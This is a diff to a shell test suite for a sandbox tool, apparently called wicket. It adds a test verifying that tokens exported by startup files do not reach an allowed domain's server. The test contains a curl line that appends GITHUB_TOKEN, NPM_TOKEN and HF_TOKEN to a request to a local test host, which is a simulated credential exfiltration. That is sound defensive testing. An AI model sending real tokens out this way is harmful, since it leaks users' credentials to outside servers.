@@ -6,6 +6,7 @@
 
 load ../lib/common
 load escape_helpers
+load ../lib/domains
 
 setup() {
 	esc_setup
@@ -14,6 +15,10 @@ setup() {
 }
 
 teardown() {
+	if [ -n "${DOM_PID:-}" ]; then
+		kill -TERM "$DOM_PID" 2>/dev/null || true
+		wait "$DOM_PID" 2>/dev/null || true
+	fi
 	escape_cleanup
 	common_teardown
 }
@@ -231,6 +236,24 @@ interactive() {
 	# A token a program in the sandbox passes on itself is its own.
 	out=$(cd "$WS" && bounded 30 "$WICKET" run -- env MY_TOKEN=mine bash -lc 'echo "got=$MY_TOKEN"' 2>&1) || true
 	[[ $out == *got=mine* ]]
+}
+
+@test "planted: with one allowed domain, a token the startup files export does not reach its server" {
+	tokens_home
+	dom_setup
+	local get='curl -fsS "http://pkg.wk.test:$1/hello.txt?t=${GITHUB_TOKEN-}${NPM_TOKEN-}${HF_TOKEN-}"'
+	dom_run "$DOM/allow.json" bash -lc "$get" _ "$HTTP_PORT"
+	[ "$status" -eq 0 ]
+	if command -v zsh >/dev/null; then
+		dom_run "$DOM/allow.json" zsh -c "$get" _ "$HTTP_PORT"
+		[ "$status" -eq 0 ]
+	fi
+	cat "$DOM/log"
+	server_got GET
+	if grep -q "$TOK" "$DOM/log"; then
+		echo "ESCAPE: a token the policy removes reached the server through the proxy"
+		false
+	fi
 }
 
 @test "planted: at start, wicket names the startup files that set a name the policy removes, in one line" {
